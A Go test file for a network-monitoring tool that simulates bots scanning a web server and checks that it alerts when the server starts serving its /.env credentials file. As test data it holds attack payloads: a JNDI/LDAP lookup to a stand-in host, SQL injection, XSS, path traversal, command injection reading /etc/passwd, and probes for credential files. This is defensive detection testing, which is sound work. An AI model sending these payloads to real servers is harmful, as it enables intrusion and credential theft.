package main

import (
	"cmp"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/gopacket/layers"

	"github.com/reconwatch/reconwatch/internal/alert"
	"github.com/reconwatch/reconwatch/internal/testbed"
)

// webServer is the one that bots of the web come by.
var webServer = netip.MustParseAddr("198.51.100.80")

// kits are what the bots have with them: whom they say they are and what they ask for, with the answer.
var kits = []struct {
	agent string
	asks  []string
	codes []int
}{
	{"Mozilla/5.0 (X11; Linux x86_64)", []string{"/.env", "/.git/HEAD", "/.aws/credentials"}, []int{404, 403, 404}},
	{"Mozilla/5.0 (Windows NT 10.0)", []string{"/wp-login.php", "/xmlrpc.php", "/phpmyadmin/", "/manager/html", "/wp-config.php.bak"}, []int{200, 405, 404, 404, 403}},
	{"Mozilla/5.0 zgrab/0.x", []string{"/"}, []int{200}},
	{"masscan/1.3 (https://example.com/)", []string{"/", "/actuator/env"}, []int{200, 403}},
	{"python-requests/2.31", []string{"/?x=${jndi:ldap://192.0.2.9/a}", "/?q=1+union+select+1", "/?q=%3Cscript%3Ealert(1)%3C/script%3E"}, []int{200, 200, 200}},
	{"curl/8.0", []string{"/a?f=../../../../etc/passwd", "/b?c=;cat%20/etc/passwd", "/c?d=%7B%7B7*7%7D%7D"}, []int{404, 403, 404}},
}

// conversation adds a connection on which a bot asks for paths.
func conversation(out []passing, at int64, src netip.Addr, from uint16, agent string, asks []string, codes []int) []passing {
	request := passing{src: src, dst: webServer, from: from, to: 80, proto: layers.IPProtocolTCP}
	reply := passing{src: webServer, dst: src, from: 80, to: from, proto: layers.IPProtocolTCP, reply: true}
	say := func(p passing, flags uint8, seq, ackn uint32, data string) {
		at += 1e6
		p.at, p.flags, p.seq, p.ackn, p.data = at, flags, seq, ackn, data
		out = append(out, p)
	}
	mine, yours := uint32(1000), uint32(5000)
	say(request, syn, mine, 0, "")
	say(reply, syn|ack, yours, mine+1, "")
	mine, yours = mine+1, yours+1
	say(request, ack, mine, yours, "")
	for i, path := range asks {
		ask := fmt.Sprintf("GET %s HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: %s\r\n\r\n", path, agent)
		say(request, ack, mine, yours, ask)
		mine += uint32(len(ask))
		answer := fmt.Sprintf("HTTP/1.1 %d X\r\nContent-Length: 0\r\n\r\n", codes[i])
		say(reply, ack, yours, mine, answer)
		yours += uint32(len(answer))
	}
	say(request, fin|ack, mine, yours, "")
	say(reply, fin|ack, yours, mine+1, "")
	return out
}

// dayOfBots makes the packets of a day on which the bots of the web come by a server; from noon on it
// gives a file with passwords away.
func dayOfBots(r *rand.Rand) []passing {
	var out []passing
	noon := dayBegan.Add(12 * time.Hour).UnixNano()
	for i := range opportunists {
		at := dayBegan.Add(24 * time.Hour * time.Duration(i) / opportunists).UnixNano()
		src := netip.AddrFrom4([4]byte{byte(11 + i%80), byte(i >> 8), byte(i), byte(1 + r.IntN(250))})
		kit := &kits[r.IntN(len(kits))]
		codes := slices.Clone(kit.codes)
		if n := slices.Index(kit.asks, "/.env"); n >= 0 && at >= noon {
			codes[n] = 200
		}
		out = conversation(out, at, src, uint16(40000+r.IntN(20000)), kit.agent, kit.asks, codes)
	}
	slices.SortStableFunc(out, func(a, b passing) int { return cmp.Compare(a.at, b.at) })
	return out
}

// TestTenThousandBotsOfADay: bots of the web are background too; that a server gives away passwords is not.
func TestTenThousandBotsOfADay(t *testing.T) {
	testbed.TakesTime(t)
	d := newDelivery(t)
	told, stats := d.watch(t, dayOfBots(rand.New(rand.NewPCG(3, 4))))
	messages, kinds := d.sent()
	given := 0
	for _, m := range messages {
		if strings.Contains(m, `phase="open"`) && strings.Contains(m, "/.env (200") {
			given++
		}
	}
	t.Logf("%d alerts, %d syslog messages: %v, %d that passwords are given away", told, len(messages), kinds, given)
	if len(messages) > 2000 {
		t.Errorf("%d syslog messages", len(messages))
	}
	if given == 0 {
		t.Error("nobody was told at once that the server gives passwords away")
	}
	if want := opportunists * 9 / 10; stats.Opened < uint64(want) {
		t.Errorf("%d episodes of %d bots", stats.Opened, opportunists)
	}
	checkFirstGiven(t, messages)
}

// checkFirstGiven holds the first message about passwords to the minute in which they were first given.
func checkFirstGiven(t *testing.T, messages []string) {
	t.Helper()
	for _, m := range messages {
		if !strings.Contains(m, "/.env (200") {
			continue
		}
		at, err := time.Parse(time.RFC3339Nano, strings.Fields(m)[1])
		if late := at.Sub(dayBegan.Add(12 * time.Hour)); err != nil || late < 0 || late > 5*time.Minute || strings.Contains(m, `phase="`+alert.PhaseClose) {
			t.Errorf("the first that was told of it: %s", m)
		}
		return
	}
}
